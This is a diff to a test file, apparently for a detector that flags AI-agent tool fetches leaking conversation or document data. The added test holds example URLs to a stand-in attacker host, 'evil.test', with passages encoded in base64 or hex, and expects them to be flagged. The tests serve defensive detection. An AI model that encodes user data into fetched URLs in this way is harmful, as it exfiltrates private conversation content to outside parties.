@@ -197,3 +197,9 @@ def test_a_url_a_tool_fetches_is_not_exfiltration_when_it_is_a_search_or_a_link_
     assert fetch(title, tool_results=[f"Result: {DOC} Source unknown."]) == set()
     assert fetch(search, documents=[f"{LONG_DOC} Source: {search}"]) == set()  # a link the document holds
     assert fetch("https://evil.test/c?d=hello", documents=[LONG_DOC]) == set()  # no data from the conversation
+
+
+def test_an_encoded_passage_in_a_url_a_tool_fetches_counts_as_in_a_link_whatever_its_length_or_source():
+    assert fetch(f"https://evil.test/c?d={b64(DOC)}", documents=[DOC]) == {"abw-exfil-url-link"}
+    history = [Message(role="user", content=DOC), Message(role="assistant", content="Noted.")]
+    assert fetch(f"https://evil.test/c?d={DOC.encode().hex()}", history=history, prompt="ok") == {"abw-exfil-url-link"}
